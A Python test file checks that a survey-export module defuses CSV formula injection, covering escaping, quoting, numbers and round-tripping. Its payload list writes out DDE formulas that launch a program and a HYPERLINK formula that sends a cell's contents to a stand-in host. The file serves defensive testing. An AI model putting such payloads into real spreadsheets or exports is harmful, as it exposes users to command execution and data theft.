"""CSV that no spreadsheet runs and every program reads."""

import csv
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from survey.exports.csv_lines import plain_csv, safe_cell, unguarded

# Written out here, and not taken from the code: what spreadsheets run (ASVS 1.2.10).
STARTS = ["=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://a.example/?\"&A1;\"b\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "＝1+1",
]  # fmt: skip


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_every_dangerous_start_gets_an_apostrophe(start):
    assert safe_cell(f"{start}rest") == f"'{start}rest".replace("\0", "")
    assert safe_cell(start).startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_is_defused_in_header_and_cell_and_survives_the_csv(payload):
    header, row = rows_of(plain_csv([payload], [[payload]]))
    space = "".join(itertools.takewhile("\t\r\n".__contains__, payload))
    rest = payload.removeprefix(space).replace("\0", "")
    # Behind a tab or line break the formula itself would begin a cell somewhere.
    expected = f"'{space}'{rest}" if space else f"'{rest}"
    for (cell,) in (header, row):
        assert cell == expected


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("start", [start for start in STARTS if start.isprintable()])
@pytest.mark.parametrize("quotes", ["", '"', '""'])
def test_formula_is_defused_where_another_separator_would_begin_a_cell(separator, start, quotes):
    """A German spreadsheet splits at `;`, and sees no quotation mark within its cell."""
    written = plain_csv(["a", "b"], [["x", f"a{separator}{quotes}{start}1+1"]])
    for delimiter in ",;\t":
        split = csv.reader(io.StringIO(written, newline=""), delimiter=delimiter)
        assert not [cell for row in split for cell in row if cell.startswith(tuple(STARTS))]
    assert rows_of(written)[1][1] == f"a{separator}'{quotes}{start}1+1"


@pytest.mark.parametrize("text", ["#", "No #1", "a #b", 'say "#"', "a;b", "a\tb"])
def test_what_another_program_takes_for_a_comment_or_separator_is_quoted(text):
    written = plain_csv(["a", "b"], [[text, 1]])
    assert written.split("\r\n")[1] == '"' + text.replace('"', '""') + '",1'


@pytest.mark.parametrize("harmless", ["", "a=1", "3-2", "Did you? = no", "'quoted'", "ü", "1+1"])
def test_harmless_text_is_left_alone(harmless):
    assert safe_cell(harmless) == harmless


@pytest.mark.parametrize("number", [-0.25, -1, -1e-300, 0, 0.1 + 0.2, 10**15])
def test_negative_and_other_numbers_stay_numbers_to_the_last_digit(number):
    ((cell,),) = rows_of(plain_csv(["estimate"], [[number]]))[1:]
    assert type(number)(cell) == number


def test_negative_estimate_is_a_number_and_a_text_that_looks_like_it_is_not():
    _, row = rows_of(plain_csv(["a", "b"], [[-0.25, "-0.25"]]))
    assert row == ["-0.25", "'-0.25"]


def test_nothing_is_an_empty_cell():
    assert rows_of(plain_csv(["a", "b"], [[None, 1]])) == [["a", "b"], ["", "1"]]


@pytest.mark.parametrize("text", ["a,b", 'say "no"', "two\nlines", "a\r\nb", ";\t;", " spaced "])
def test_csv_gives_back_awkward_text_unchanged(text):
    assert rows_of(plain_csv(["a", "b"], [[text, 1]])) == [["a", "b"], [text, "1"]]


def test_lines_end_as_in_rfc_4180():
    assert plain_csv(["a", "b"], [[1, 2], [3, 4]]) == "a,b\r\n1,2\r\n3,4\r\n"


@given(st.text("'=+-@;\"\t\r\nＡ＝a", max_size=12))
def test_a_guard_is_taken_off_again(text):
    """`=1+1` and `'=1+1` had one guarded form."""
    cell = safe_cell(text)
    assert unguarded(cell) == text
    assert not cell.startswith(tuple(STARTS))
    ((found,),) = rows_of(plain_csv([text], [])) if text else [[""]]
    assert unguarded(found) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [("'=1", "''=1"), ("a;'=1", "a;''=1"), ("'a", "'a"), ("'\n=", "''\n'=")],
)
def test_typed_apostrophes_before_a_formula_get_one_more(text, cell):
    assert safe_cell(text) == cell


@pytest.mark.parametrize(
    ("cell", "text"),
    [("'=1", "=1"), ("a;'=1", "a;=1"), ("''=1", "''=1"), ("'a", "'a"), ("\n'\"=1", '\n"=1')],
)
def test_the_guard_of_an_earlier_release_is_taken_off(cell, text):
    assert unguarded(cell, earlier=True) == text
